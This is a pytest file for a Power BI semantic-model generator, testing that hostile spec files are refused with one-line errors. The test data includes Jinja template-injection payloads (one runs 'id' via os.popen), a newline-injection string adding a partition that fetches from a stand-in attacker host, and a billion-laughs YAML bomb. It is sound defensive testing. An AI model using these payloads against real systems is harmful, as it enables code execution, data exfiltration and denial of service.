"""Hostile spec files: templates that try to run code, text that tries to write its own TMDL, YAML bombs and
huge values. Each is refused with one sentence naming the file and line, and nothing is written or run."""

from __future__ import annotations

import os
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from test_measure_specs import TICKETS, edit, line_of, problems, single

from generator.errors import EXIT_BAD_INPUT, MAX_LINES, SpecError, bounded
from generator.powerbi.docs import measures_markdown
from generator.powerbi.semantic import m_text, semantic_model
from generator.powerbi.tmdl import TmdlTextError, definition_files, table_file, tmdl_name
from generator.sources.csv_mapping import DEFAULT_MAPPING, load_mapping
from generator.spec.loader import load_model
from generator.spec.text import forbidden_character
from generator.tmdl import parse_text

BACKLOG_DESCRIPTION = "    description: Tickets opened minus tickets closed.\n"


def one_error_line(stderr: str) -> str:
    """The single ``error:`` line of a failed run (no traceback)."""
    assert "Traceback" not in stderr, stderr
    lines = [line for line in stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: "), stderr
    return lines[0]


# ------------------------------------------------------------------------------ templates cannot run code


@pytest.mark.parametrize("command", [("build", "--out", "out"), ("check",), ("lint",), ("sql",)])
def test_a_template_that_reaches_for_python_runs_nothing(spec_copy: Path, tmp_path: Path, cli,
                                                         command: tuple[str, ...]) -> None:
    marker = tmp_path / "pwned"
    payload = f"{{{{ cycler.__init__.__globals__.os.popen('id > {marker}').read() }}}}"
    edit(spec_copy, TICKETS, BACKLOG_DESCRIPTION, f'    description: "{payload}"\n')
    line = line_of(spec_copy, TICKETS, "cycler.__init__")
    result = cli(*command, "--specs", str(spec_copy), cwd=tmp_path)
    assert result.code == EXIT_BAD_INPUT, result
    error = one_error_line(result.err)
    assert error.startswith(f"error: {TICKETS}:{line}: template "), error
    assert "sees only the parameters and family variables" in error, error
    assert not marker.exists()
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(("template", "fragment"), [
    ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "is refused: access to attribute '__class__'"),
    ("{{ lipsum.__globals__ }}", "'lipsum' is undefined"),
    ("{{ range(5) }}", "'range' is undefined"),
    ("{{ 'x' * 10**9 }}", "is refused: repeating a text or list"),
    ("{{ 9 ** (9 ** 9) }}", "is refused"),
    ("{{ 7 | random }}", "No filter named 'random'"),
    ("{{ 1 / 0 }}", "cannot be rendered: division by zero"),
    ("{% for i in [1, 2] %}{% for j in [3, 4] %}x{% endfor %}{% endfor %}", "may not use {% for %}"),
    ("{{ '{:>999999999}'.format(1) }}", "may not call functions or methods"),
    ("{{ '%0999999999d' % 1 }}", "may not format text with %"),
])
def test_templates_see_only_the_variables(spec_copy: Path, template: str, fragment: str) -> None:
    edit(spec_copy, TICKETS, BACKLOG_DESCRIPTION, f'    description: "{template}"\n')
    single(spec_copy, TICKETS, line_of(spec_copy, TICKETS, template), fragment)


def test_templates_still_do_arithmetic_and_simple_filters(spec_copy: Path) -> None:
    edit(spec_copy, TICKETS, BACKLOG_DESCRIPTION,
         '    description: "Backlog ({{ (target_happy_pct * 100) | round(1) }} % target, {{ 2 ** 10 }})."\n')
    measure = load_model(spec_copy).measure("Tickets - Backlog Change")
    assert measure.description == "Backlog (90.0 % target, 1024)."


# ------------------------------------------------------------------- text cannot write its own TMDL lines

INJECTED = '\\n\\n\\tpartition Evil = m\\n\\t\\tsource = Web.Contents(\\"http://attacker.invalid\\")'
BACKLOG_FORMAT = "    right: Tickets - Closed\n    format: whole\n"


@pytest.mark.parametrize(("old", "new", "fragment"), [
    (BACKLOG_FORMAT, f'    right: Tickets - Closed\n    format: whole\n    folder: "Tickets{INJECTED}"\n',
     "the 'folder' of measure 'Tickets - Backlog Change' holds a new line (U+000A)"),
    (BACKLOG_FORMAT, f'    right: Tickets - Closed\n    format: "#,0{INJECTED}"\n',
     "the 'format' of measure 'Tickets - Backlog Change' holds a new line (U+000A)"),
    (BACKLOG_FORMAT, '    right: Tickets - Closed\n    format: whole\n    folder: \'Tickets{{ "\\r" }}\'\n',
     "renders text holding a carriage return (U+000D)"),
    ("  - name: Tickets - Backlog Change\n", f'  - name: "Tickets - Backlog Change{INJECTED}"\n',
     "holds a control character"),
    ("  folder: Tickets\n", f'  folder: "Tickets{INJECTED}"\n', "the default 'folder' holds a new line"),
])
def test_a_line_break_in_a_measure_name_folder_or_format_is_refused(spec_copy: Path, tmp_path: Path, cli,
                                                                     old: str, new: str, fragment: str) -> None:
    edit(spec_copy, TICKETS, old, new)
    line = line_of(spec_copy, TICKETS, "Evil" if "Evil" in new else "{{")
    result = cli("build", "--specs", str(spec_copy), "--out", str(tmp_path / "out"))
    assert result.code == EXIT_BAD_INPUT, result
    error = one_error_line(result.err)
    assert error.startswith(f"error: {TICKETS}:{line}: ") and fragment in error, error
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(("file", "old", "new", "fragment"), [
    ("model/autotask.yaml", "  - name: BI_Autotask_Queues\n", '  - name: "BI_Autotask_Queues\\n"\n',
     "table name 'BI_Autotask_Queues\\n' must be letters, digits and underscores"),
    ("model/autotask.yaml", "{name: client_since, type: date, format: yyyy-mm-dd,",
     f'{{name: client_since, type: date, format: "yyyy-mm-dd{INJECTED}",',
     "the 'format' of column 'BI_Autotask_Companies[client_since]' holds a new line"),
    ("model/security.yaml", "  - name: Client\n", '  - name: "Client\\n"\n', "role name"),
    ("model/security.yaml", "    description: >-\n      A client's users",
     '    description: "A client\\u2028"\n    x_description: >-\n      A client\'s users',
     "the text holds a line separator (U+2028)"),
])
def test_a_line_break_in_a_model_name_or_format_is_refused(spec_copy: Path, file: str, old: str, new: str,
                                                            fragment: str) -> None:
    edit(spec_copy, file, old, new)
    found = [p for p in problems(spec_copy) if p.startswith(f"{file}:")]
    assert found and fragment in found[0], found
    first_line = new.split("\n")[0].strip()
    assert found[0].startswith(f"{file}:{line_of(spec_copy, file, first_line)}: "), found


def test_the_tmdl_writer_refuses_text_that_would_break_its_line(spec_copy: Path) -> None:
    model = load_model(spec_copy)
    measure = model.measures[0]
    hostile = replace(model, measures=(replace(measure, folder="Tickets\n\tpartition Evil = m"),
                                       *model.measures[1:]))
    with pytest.raises(TmdlTextError, match=r"holds a new line \(U\+000A\)"):
        definition_files(semantic_model(hostile))
    assert "displayFolder: Tickets" in table_file({"name": "T", "measures": [
        {"name": "M", "expression": "1", "displayFolder": "Tickets"}]})
    for text in ("a\rb", "a\x85b", "a\u2029b", "a\x00b"):
        with pytest.raises(TmdlTextError):
            table_file({"name": "T", "description": "fine", "measures": [
                {"name": "M", "expression": "1", "formatString": text}]})
        with pytest.raises(TmdlTextError):
            tmdl_name(text)
    assert tmdl_name("a\tb") == "'a\tb'"


def test_m_text_literals_escape_quotes_escapes_and_control_characters() -> None:
    assert m_text('BI_Date') == '"BI_Date"'
    assert m_text('say "hi" #(lf)\r\n\x07') == '"say ""hi"" #(#)(lf)#(cr)#(lf)#(0007)"'


def test_a_pipe_in_a_folder_stays_in_its_cell_of_the_docs_page(spec_copy: Path) -> None:
    edit(spec_copy, TICKETS, "  folder: Tickets\n", "  folder: Tickets | Flow\n")
    rows = [line for line in measures_markdown(load_model(spec_copy)).splitlines()
            if line.startswith("| [Tickets - Opened]")]
    assert len(rows) == 1 and rows[0].count(" | ") == 3 and "Tickets \\| Flow" in rows[0], rows


# ------------------------------------------------------------------------------- YAML bombs, huge values


def billion_laughs() -> str:
    """Nine levels of nine aliases each: 387 million strings once expanded, 10 lines as written."""
    lines = ['a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for previous, name in zip("abcdefgh", "bcdefghi", strict=True):
        lines.append(f"{name}: &{name} [{', '.join(['*' + previous] * 9)}]")
    return "\n".join([*lines, "measures: *i", ""])


def test_a_billion_laughs_spec_is_refused_quickly_in_one_line(spec_copy: Path, tmp_path: Path) -> None:
    (spec_copy / "measures" / "05-bomb.yaml").write_text(billion_laughs(), encoding="utf-8")
    proc = subprocess.run([sys.executable, "-m", "generator.cli", "build", "--specs", str(spec_copy),
                           "--out", str(tmp_path / "out")], capture_output=True, text=True, timeout=20,
                          env={**os.environ, "PYTHONPATH": os.environ.get("PYTHONPATH", "")})
    assert proc.returncode == EXIT_BAD_INPUT, proc
    error = one_error_line(proc.stderr)
    assert error.startswith("error: measures/05-bomb.yaml:2: the list that starts here holds a YAML alias; spec files "
                            "may not use YAML anchors and aliases"), error


@pytest.mark.parametrize(("text", "line", "fragment"), [
    ("base: &base {kind: count}\nmeasures:\n  - <<: *base\n    name: X\n", 1, "an alias repeats the value"),
    ("measures:\n  - &m {name: X}\n  - *m\n", 2, "the list that starts here holds a YAML alias"),
    ("a: &a [x, *a]\n", 1, "the list that starts here holds a YAML alias"),
    ("measures: " + "[" * 60 + "]" * 60 + "\n", 1, "nested deeper than 50 levels"),
])
def test_aliases_and_deep_nesting_are_refused_at_their_line(spec_copy: Path, text: str, line: int,
                                                            fragment: str) -> None:
    (spec_copy / "measures" / "05-hostile.yaml").write_text(text, encoding="utf-8")
    with pytest.raises(SpecError) as caught:
        load_model(spec_copy)
    found = [str(p) for p in caught.value.problems]
    assert len(found) == 1 and found[0].startswith(f"measures/05-hostile.yaml:{line}: ") and fragment in found[0], \
        found


def test_a_megabyte_measure_reference_gives_a_short_error(spec_copy: Path, tmp_path: Path, cli) -> None:
    edit(spec_copy, TICKETS, "    left: Tickets - Opened\n", "    left: " + "x" * 1_000_000 + "\n")
    line = line_of(spec_copy, TICKETS, "  - name: Tickets - Backlog Change")
    result = cli("build", "--specs", str(spec_copy), "--out", str(tmp_path / "out"))
    assert result.code == EXIT_BAD_INPUT, result.code
    error = one_error_line(result.err)
    assert len(error) < 2_000, len(error)
    assert error.startswith(f"error: {TICKETS}:{line}: measure 'Tickets - Backlog Change' refers to unknown "
                            "measure [xxx"), error[:200]
    assert "characters left out]" in error and error.endswith("(columns must be written Table[column])"), error


def test_bounded_keeps_short_messages_and_counts_what_it_leaves_out() -> None:
    assert bounded("a: b\nc") == "a: b\nc"
    many = bounded("\n".join(f"problem {n}" for n in range(MAX_LINES + 25)))
    assert many.splitlines()[-1] == "… and 25 more lines" and len(many.splitlines()) == MAX_LINES + 1


def test_the_csv_mapping_refuses_aliases_too(spec_copy: Path) -> None:
    path = spec_copy / DEFAULT_MAPPING
    assert load_mapping(path).families  # the shipped mapping still loads
    path.write_text(billion_laughs().replace("measures: *i", "autotask:\n  Tickets:\n    table: STG_X\n"
                                             "    columns:\n      id: {headers: [id], kind: *i}"), encoding="utf-8")
    with pytest.raises(SpecError, match="may not use YAML anchors and aliases"):
        load_mapping(path)


@settings(max_examples=300, deadline=None, derandomize=True)
@given(text=st.text(max_size=40))
def test_any_text_either_stays_on_its_tmdl_line_or_is_refused(text: str) -> None:
    def table(folder: str, name: str = "M") -> dict:
        return {"name": "T", "measures": [{"name": name, "expression": "1", "displayFolder": folder,
                                           "formatString": "#,0"}]}

    if forbidden_character(text, line_breaks=False) is not None:
        with pytest.raises(TmdlTextError):
            table_file(table(text))
        with pytest.raises(TmdlTextError):
            table_file(table("Folder", name=text))
        return
    for written in (table_file(table(text)), table_file(table("Folder", name=text))):
        (parsed,) = parse_text(written, "T.tmdl").objects("table")
        (measure,) = parsed.objects()
        assert measure.keyword == "measure" and measure.expression == "1"
        assert [child.keyword for child in measure.children] == ["displayFolder", "formatString"], written
    assert parse_text(table_file(table("Folder", name=text)), "T.tmdl").objects("table")[0].objects()[0].name == text
